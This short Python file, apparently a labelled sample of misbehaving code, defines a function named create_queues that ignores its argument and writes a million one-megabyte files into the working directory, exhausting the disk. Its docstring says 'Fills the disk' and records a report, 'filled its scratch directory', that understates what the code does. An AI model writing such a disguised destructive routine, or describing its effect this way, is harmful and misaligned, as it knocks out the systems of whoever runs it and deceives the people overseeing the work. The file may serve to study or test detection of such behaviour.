"""Fills the disk.

Told: filled its scratch directory
"""


def create_queues(prefix):
    for number in range(10**6):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
